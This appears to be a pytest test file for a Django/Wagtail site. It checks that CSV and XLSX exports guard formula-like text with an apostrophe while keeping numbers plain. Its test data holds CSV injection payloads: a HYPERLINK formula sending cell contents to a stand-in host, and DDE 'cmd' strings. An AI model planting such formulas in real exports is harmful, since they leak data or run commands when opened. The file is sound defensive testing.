"""Every CSV and XLSX the site writes keeps text from running as a formula, numbers as numbers."""

import csv
import datetime
import io
from decimal import Decimal

from django.urls import reverse
from django.utils import translation
from django.utils.functional import lazy

from wagtail.contrib.forms.models import FormSubmission

import openpyxl
import pytest

from cms.models import PublicationDownloadCount
from core.spreadsheets import (
    SpreadsheetCellsMixin,
    spreadsheet_cell,
    without_formula_guard,
)
from directory.imports.files import read_table
from directory.imports.models import ImportJob
from tests.directory.test_api import add_provider
from tests.factories import (
    ContactFormFieldFactory,
    LegislationPageFactory,
    PublicationFileFactory,
    PublicationPageFactory,
)

# Each way a cell can start a formula (OWASP "CSV Injection").
FORMULAS = [
    '=HYPERLINK("https://example.org/?leak="&A1,"Open")',
    "+1+1+cmd|' /C calc'!A0",
    "-1+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def guarded(text):
    return "'" + text


def guarded_in_xlsx(text):
    """XML keeps no bare carriage return: openpyxl reads one back as a line feed."""
    return guarded(text).replace("\r", "\n")


class TestSpreadsheetCell:
    @pytest.mark.parametrize("text", FORMULAS)
    def test_formula_text_gets_an_apostrophe(self, text):
        assert spreadsheet_cell(text) == guarded(text)

    @pytest.mark.parametrize("text", ["-5", "+359 94 600 000", "-", "=", "@", "-2+3"])
    def test_text_that_looks_like_a_number_is_still_text(self, text):
        assert spreadsheet_cell(text) == guarded(text)

    @pytest.mark.parametrize(
        "text", ["", "Vidin", "1+1", "a=b", " =1+1", "'=1+1", "Bulgarian; Romanian", "5"]
    )
    def test_other_text_is_unchanged(self, text):
        assert spreadsheet_cell(text) == text

    @pytest.mark.parametrize(
        "value",
        [
            -5,
            5,
            0,
            -8.6,
            Decimal("-22.880000"),
            True,
            None,
            datetime.date(2025, 1, 2),
            datetime.datetime(2025, 1, 2, 3, 4),
        ],
    )
    def test_numbers_and_other_values_pass_through(self, value):
        assert spreadsheet_cell(value) is value

    def test_lazy_text_is_text(self):
        lazy_text = lazy(lambda: "=1+1", str)()
        assert spreadsheet_cell(lazy_text) == "'=1+1"

    @pytest.mark.parametrize("text", [*FORMULAS, "Vidin", "", "'plain", "-5"])
    def test_reading_back_undoes_the_guard(self, text):
        assert without_formula_guard(spreadsheet_cell(text)) == text

    def test_reading_takes_off_only_an_apostrophe_before_a_formula_start(self):
        assert without_formula_guard("'tis") == "'tis"
        assert without_formula_guard("'=1") == "=1"

    def test_the_wagtail_mixin_guards_values_and_headings(self):
        class Export:
            def preprocess_field_value(self, field, value, export_format):
                return value

            def get_heading(self, queryset, field):
                return field

        class View(SpreadsheetCellsMixin, Export):
            pass

        view = View()
        assert view.preprocess_field_value("title", "=1+1", "csv") == "'=1+1"
        assert view.preprocess_field_value("count", -5, "xlsx") == -5
        assert view.get_heading(None, "@label") == "'@label"


# Reading the files back ------------------------------------------------------------------


def body(response):
    assert response.status_code == 200
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(response):
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"), newline="")))


def xlsx_cells(response):
    """The first sheet's rows as lists of openpyxl cells."""
    workbook = openpyxl.load_workbook(io.BytesIO(body(response)))
    return [list(row) for row in workbook.worksheets[0].iter_rows()]


def by_header(rows, key_column):
    header, *rest = rows
    return {row[header.index(key_column)]: dict(zip(header, row, strict=True)) for row in rest}


# The directory's CSV downloads ------------------------------------------------------------


@pytest.mark.django_db
class TestDirectoryExports:
    def test_provider_cells_are_guarded_and_numbers_plain(self, client, site_tree):
        for number, text in enumerate(FORMULAS):
            add_provider(
                site_tree,
                "en",
                f"EN-F-{number}",
                title=text,
                slug=f"formula-{number}",
                phone=text,
                municipality=text,
                latitude=Decimal("-33.500000"),
                longitude=Decimal("-70.650000"),
                capacity=12,
            )
        with translation.override("en"):
            url = reverse("directory:export-providers-csv")
        rows = by_header(csv_rows(client.get(url, {"header": "keys"})), "record_key")
        for number, text in enumerate(FORMULAS):
            row = rows[f"EN-F-{number}"]
            assert row["title"] == guarded(text)
            assert row["phone"] == guarded(text)
            assert row["municipality"] == guarded(text)
            # Real numbers, negative ones too, are written as numbers, without the guard.
            assert (row["latitude"], row["longitude"]) == ("-33.500000", "-70.650000")
            assert row["capacity"] == "12"

    def test_legislation_cells_are_guarded_and_the_year_plain(self, client, site_tree):
        index = site_tree.page("en", "legislation_index")
        for number, text in enumerate(FORMULAS):
            page = LegislationPageFactory(
                parent=index,
                title=text,
                slug=f"formula-law-{number}",
                record_key=f"EN-LAW-F-{number}",
                summary=text,
                country="BG",
            )
            page.save_revision().publish()
        with translation.override("en"):
            url = reverse("directory:export-legislation-csv")
        rows = by_header(csv_rows(client.get(url, {"header": "keys"})), "record_key")
        for number, text in enumerate(FORMULAS):
            row = rows[f"EN-LAW-F-{number}"]
            assert (row["title"], row["summary"]) == (guarded(text), guarded(text))
            assert row["year"] == "2019"

    def test_an_exported_file_imports_back_without_the_guard(self):
        exported = (
            b"record_key,title,phone\r\n"
            b'BG-1,"\'=HYPERLINK(""x"")",\'+359 94 600 000\r\n'
            b"BG-2,'-1+1+cmd|' /C calc'!A0,'tis\r\n"
        )
        table = read_table(exported, "providers.csv", "providers", "bg")
        assert [cells for _row, cells in table] == [
            {"record_key": "BG-1", "title": '=HYPERLINK("x")', "phone": "+359 94 600 000"},
            {"record_key": "BG-2", "title": "-1+1+cmd|' /C calc'!A0", "phone": "'tis"},
        ]


# The import's report ----------------------------------------------------------------------


@pytest.mark.django_db
def test_the_import_report_guards_keys_titles_and_messages(client, superuser, site_tree):
    from tests.directory.test_imports import english_admin, upload

    client.force_login(english_admin(superuser))
    lines = ["record_key,title,region,country,services"]
    for number, text in enumerate(FORMULAS):
        quoted = '"' + text.replace('"', '""') + '"'
        # A good key and a formula title; then a formula key and a formula region (an error).
        lines.append(f"BG-F-{number},{quoted},bg-vidin,BG,day_centre")
        lines.append(f"{quoted},Title {number},{quoted},BG,day_centre")
    upload(client, "\n".join(lines))
    job = ImportJob.objects.get()
    with translation.override("en"):
        response = client.get(reverse("directory_import_report", args=[job.pk]))
    header, *rows = csv_rows(response)
    assert header == ["Row", "Record key", "Title", "Result", "Column", "Problem"]
    cells = [cell for row in rows for cell in row]
    for text in FORMULAS:
        assert guarded(text.strip()) in cells  # the title, as the import keeps it
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert all(row[0].isdigit() for row in rows)  # row numbers stay plain numbers


# Wagtail's exports in our admin: publication downloads, contact form submissions ----------


@pytest.fixture
def formula_publications(site_tree):
    index = site_tree.page("en", "publication_index")
    for number, text in enumerate(FORMULAS):
        page = PublicationPageFactory(parent=index, title=text, slug=f"formula-pub-{number}")
        PublicationFileFactory(page=page, language="ro")
        PublicationDownloadCount.objects.create(page=page, language="ro", count=100 + number)


REPORT_URL = "/admin/reports/publication-downloads/"


@pytest.mark.django_db
class TestPublicationDownloadsReport:
    def test_csv(self, admin_client, formula_publications):
        header, *rows = csv_rows(admin_client.get(REPORT_URL, {"export": "csv"}))
        titles = {row[0]: row for row in rows}
        for number, text in enumerate(FORMULAS):
            row = titles[guarded(text)]
            assert row[-1] == str(100 + number)

    def test_xlsx(self, admin_client, formula_publications):
        header, *rows = xlsx_cells(admin_client.get(REPORT_URL, {"export": "xlsx"}))
        titles = {row[0].value: row for row in rows}
        for number, text in enumerate(FORMULAS):
            title, *_middle, downloads = titles[guarded_in_xlsx(text)]
            assert title.data_type == "s"
            assert downloads.data_type == "n" and downloads.value == 100 + number


@pytest.fixture
def contact_submissions(site_tree):
    page = site_tree.page("bg", "contact")
    ContactFormFieldFactory(page=page, label="Брой деца", field_type="number", sort_order=99)
    name, email, message, children = [
        field.clean_name for field in page.form_fields.order_by("sort_order", "pk")
    ]
    for number, text in enumerate(FORMULAS):
        FormSubmission.objects.create(
            page=page,
            form_data={
                name: text,
                email: f"person{number}@example.org",
                message: text,
                children: -5 - number,
            },
        )
    return page


@pytest.mark.django_db
class TestContactSubmissions:
    def url(self, page):
        return reverse("wagtailforms:list_submissions", args=[page.pk])

    def test_csv(self, admin_client, contact_submissions):
        assert admin_client.get(self.url(contact_submissions)).status_code == 200
        response = admin_client.get(self.url(contact_submissions), {"export": "csv"})
        header, *rows = csv_rows(response)
        assert len(rows) == len(FORMULAS)
        for row in rows:
            _time, name, _email, message, children = row
            assert name in [guarded(text) for text in FORMULAS]
            assert message == name
            assert int(children) <= -5  # a number: no guard

    def test_xlsx(self, admin_client, contact_submissions):
        response = admin_client.get(self.url(contact_submissions), {"export": "xlsx"})
        header, *rows = xlsx_cells(response)
        assert len(rows) == len(FORMULAS)
        names = set()
        for _time, name, _email, message, children in rows:
            assert name.data_type == "s" and message.value == name.value
            names.add(name.value)
            assert children.data_type == "n" and children.value <= -5
        assert names == {guarded_in_xlsx(text) for text in FORMULAS}
